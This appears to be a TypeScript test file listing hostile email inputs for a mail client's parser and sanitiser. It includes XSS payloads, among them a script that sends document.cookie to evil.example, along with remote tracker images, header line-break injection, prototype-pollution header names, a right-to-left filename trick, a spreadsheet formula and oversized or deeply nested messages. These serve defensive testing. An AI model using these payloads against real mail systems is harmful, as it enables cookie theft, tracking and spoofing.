import { type CaseRow, casesOf } from './mail-case.ts';

const html = { 'MIME-Version': '1.0', 'Content-Type': 'text/html; charset=utf-8' };
const bodies: readonly (readonly [name: string, body: string])[] = [
  ['a picture from elsewhere', '<p>Hello</p><img src="https://tracker.example/p.gif?u=grace" width=1>'],
  ['a script', '<script>fetch("https://evil.example/?c="+document.cookie)</script>Hello'],
  ['a picture that fails', '<img src=x onerror=alert(1)>'],
  ['a drawing that loads', '<svg onload=alert(1)><image href="https://evil.example/a.png"/></svg>'],
  ['a frame', '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>'],
  [
    'a style from elsewhere',
    '<style>@import url(https://evil.example/a.css);body{background:url(//evil.example/b.png)}</style>',
  ],
  ['a link with a script', '<a href="javascript:alert(1)">open</a><a href="data:text/html,<script>1</script>">or</a>'],
  [
    'a page that reloads',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  ],
  ['a form', '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)></form>'],
  ['a comment for Outlook', '<!--[if mso]><v:image src="https://evil.example/a.png"/><![endif]-->Hello'],
  ['tags that never end', `${'<div><table><tr><td>'.repeat(2_000)}Hello`],
  ['entities', '&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x&#x3e;'],
  ['NUL and control characters', 'Hel\u0000lo \u001b[31mred\u0007 <b\u0000r>'],
];

const inBodies: readonly CaseRow[] = bodies.map(([name, body]) => [`HTML with ${name}`, html, ['from ada'], { body }]);

const parts = (depth: number): string =>
  Array.from(
    { length: depth },
    (_, at) => `--b${at}\r\nContent-Type: multipart/mixed; boundary=b${at + 1}\r\n\r\n`,
  ).join('');
const messages = (depth: number): string => 'Content-Type: message/rfc822\r\n\r\n'.repeat(depth);

export const hostileCases = [
  ...casesOf('hostile', inBodies),
  ...casesOf('hostile', [
    [
      'a subject with a script',
      { Subject: '<script>alert(1)</script>' },
      ['from ada'],
      { reads: { subject: '<script>alert(1)</script>' } },
    ],
    ['a subject with a picture', { Subject: '<img src=https://tracker.example/p.gif>' }, ['from ada']],
    ['a subject that turns the reading direction', { Subject: 'invoice \u202egpj.exe' }, ['from ada']],
    ['a subject with a formula', { Subject: '=HYPERLINK("https://evil.example")' }, ['from ada']],
    [
      'a subject of our own placeholders',
      { Subject: '{names} {because}' },
      ['from ada'],
      { reads: { subject: '{names} {because}' } },
    ],
    ['a very long subject', { Subject: 'x'.repeat(20_000) }, ['from ada']],
    [
      'a name with a script',
      { From: '"<script>alert(1)</script>" <ada@example.com>' },
      ['from ada'],
      { reads: { fromName: '<script>alert(1)</script>' } },
    ],
    ['a name with a line break', { From: '"Ada\r\n Bcc: bob@example.org" <ada@example.com>' }, ['from ada']],
    ['a header that is called __proto__', { ['__proto__']: 'x', constructor: 'y', toString: 'z' }, ['from ada']],
    ['an address that is called __proto__', { From: '__proto__@constructor' }, 'noContact'],
    [
      'a header that is called like ours, with a blank in it',
      { From: 'eve@elsewhere.example', 'X From': 'ada@example.com' },
      'noContact',
    ],
    ['a header without a name', { From: 'eve@elsewhere.example', '': 'From: ada@example.com' }, 'noContact'],
    [
      'parts within parts within parts',
      { 'Content-Type': 'multipart/mixed; boundary=b0' },
      ['from ada'],
      { body: parts(400) },
    ],
    [
      'messages within messages within messages',
      { 'Content-Type': 'message/rfc822' },
      ['from ada'],
      { body: messages(400) },
    ],
    [
      'a boundary that is not there',
      { 'Content-Type': 'multipart/mixed; boundary=none' },
      ['from ada'],
      { body: 'no part' },
    ],
    [
      'groups within groups within groups',
      { From: 'eve@elsewhere.example', To: `${'g:'.repeat(60)}bob@example.org${';'.repeat(60)}` },
      'noContact',
    ],
    [
      'comments within comments',
      { From: `${'('.repeat(2_000)}ada@example.com${')'.repeat(2_000)} <eve@elsewhere.example>` },
      'noContact',
    ],
    ['a quote that does not end', { From: '"Ada <ada@example.com>', To: 'bob@example.org' }, ['from ada', 'to bob']],
    [
      'thousands of other headers',
      Object.fromEntries(Array.from({ length: 3_000 }, (_, at) => [`X-${at}`, 'y'])),
      ['from ada'],
    ],
    [
      'a header folded thousands of times',
      { 'X-Long': Array.from({ length: 5_000 }, () => 'y').join('\r\n ') },
      ['from ada'],
    ],
    ['a header of 10 MB', { 'X-Long': 'y'.repeat(10_000_000) }, ['from ada'], { pasted: 'large' }],
    ['a subject of 10 MB', { Subject: 'y'.repeat(10_000_000) }, ['from ada'], { pasted: 'large' }],
    [
      'headers of 10 MB',
      { 'X-Long': Array.from({ length: 10_000 }, () => 'y'.repeat(1_000)).join('\r\n ') },
      ['from ada'],
      { pasted: 'large' },
    ],
    ['a text of 10 MB', {}, ['from ada'], { body: 'y'.repeat(10_000_000), pasted: 'large' }],
  ]),
  ...casesOf('many recipients', [
    ['5,000 strangers, and a contact who wrote', { To: many(5_000) }, ['from ada']],
    ['5,000 strangers, and a stranger who wrote', { From: 'eve@elsewhere.example', To: many(5_000) }, 'noContact'],
    [
      '5,000 strangers, the last one a contact',
      { From: 'eve@elsewhere.example', To: `${many(4_999)}, bob@example.org` },
      ['to bob'],
    ],
    [
      '5,000 copies, one for a contact in the middle',
      { From: 'eve@elsewhere.example', Cc: `${many(2_500)}, bob@example.org, ${many(2_499)}` },
      ['cc bob'],
    ],
    [
      'one contact 5,000 times',
      { From: 'eve@elsewhere.example', To: Array.from({ length: 5_000 }, () => 'bob@example.org').join(', ') },
      ['to bob'],
    ],
    [
      '5,000 colleagues',
      { From: 'carol@firm.example', To: Array.from({ length: 5_000 }, (_, at) => `c${at}@firm.example`).join(', ') },
      'internal',
      { sent: true, box: { place: 'inbox', folder: 'Inbox' } },
    ],
  ]),
];

function many(count: number): string {
  return Array.from({ length: count }, (_, at) => `Person ${at} <p${at}@elsewhere.example>`).join(',\r\n ');
}
